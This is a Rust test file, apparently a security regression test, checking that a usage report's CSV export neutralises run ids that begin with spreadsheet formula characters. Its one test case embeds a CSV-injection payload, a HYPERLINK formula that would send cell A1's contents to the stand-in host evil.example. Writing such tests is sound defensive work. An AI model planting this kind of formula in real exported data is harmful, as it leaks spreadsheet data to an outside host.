//! The attacker pass on `weir usage --by run` (issue 30, acceptance 8): each test showed a flaw on the
//! code as it stood, and holds its fix.

use super::*;

/// A run id is the caller's choice (1 to 128 visible ASCII characters, `=`, `+`, `-`, `@`
/// included), and the CSV writes it as it came: opened in a spreadsheet, a run id like
/// `=HYPERLINK(...)` is a formula the operator's sheet evaluates (CSV/formula injection).
/// A field a client chose should not begin with `=`, `+`, `-` or `@` as written.
#[test]
fn attack_a_run_id_is_a_formula_in_the_csv() {
    let run = RunUsage {
        tenant: "acme/w/p/k".into(),
        agent_id: None,
        run_id: "=HYPERLINK(\"http://evil.example/?\"&A1;\"open\")".into(),
        calls: 1,
        tool_calls: 0,
        input_tokens: 1,
        output_tokens: 1,
        currency: None,
        cost_micros: None,
        started_at_ms: 0,
        finished_at_ms: 0,
        runtime_ms: 0,
        outcome: "ok".into(),
    };
    let csv = table(&[run]);
    let row = csv.lines().nth(1).unwrap_or_default();
    // The third field, as a reader splits it (the run id holds a comma-free formula here
    // except inside quotes): find it after the tenant and the empty agent.
    let field = row
        .strip_prefix("acme/w/p/k,,")
        .unwrap_or_default()
        .trim_start_matches('"');
    assert!(
        !field.starts_with(['=', '+', '-', '@']),
        "the run id leads its CSV field as a formula: {row}"
    );
}
